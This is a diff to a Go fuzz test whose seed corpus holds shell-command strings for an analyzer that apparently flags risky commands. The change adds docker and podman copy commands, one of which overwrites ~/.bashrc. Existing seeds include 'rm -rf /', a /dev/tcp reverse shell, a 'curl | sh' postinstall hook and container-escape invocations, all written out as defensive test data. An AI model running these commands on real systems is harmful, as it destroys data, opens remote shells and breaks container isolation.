@@ -38,7 +38,7 @@ func FuzzAnalyze(f *testing.F) {
 		"ansible all -m shell -a", "ansible h -a 'rm -rf /'", "find ~ -name x | xargs cat", "find | xargs -I{} cp {} y", "find 2>/dev/null | xargs", "exec 3<>/dev/tcp/h/1; sh <&3", "sh </dev/tcp/h/1", "sh <&",
 		"printf 'all:\\n\\t@$(CC) $$x $(shell ls)\\n' > Makefile", "cat > Makefile <<'EOF'\nx:\n\t-rm -rf $(OUT) \\\n  y\n\t+$\nEOF",
 		"\"postinstall\": \"curl x | sh\", \"x\": \"", "flyway -url=jdbc:postgresql://db.staging.internal:5432/app migrate", "goose postgres 'host=10.0.0.1 dbname=x' up",
-		"docker run --cap-add ALL --security-opt seccomp=unconfined -v /:/h --mount type=bind,source=/,target=/h x", "kubectl debug node/n -- chroot /host",
+		"docker run --cap-add ALL --security-opt seccomp=unconfined -v /:/h --mount type=bind,source=/,target=/h x", "kubectl debug node/n -- chroot /host", "docker cp web:/x ~/.bashrc", "podman container cp -a c:/ -", "docker cp",
 		"kubectl run p --overrides='{\"spec\":{\"hostPID\":true}}' --image=x", "DATABASE_URL=postgres://a@db.shared/x alembic upgrade head", "{\"command\": \"ls\"", "\t$(\n\t${A.B}",
 	} {
 		f.Add(s)
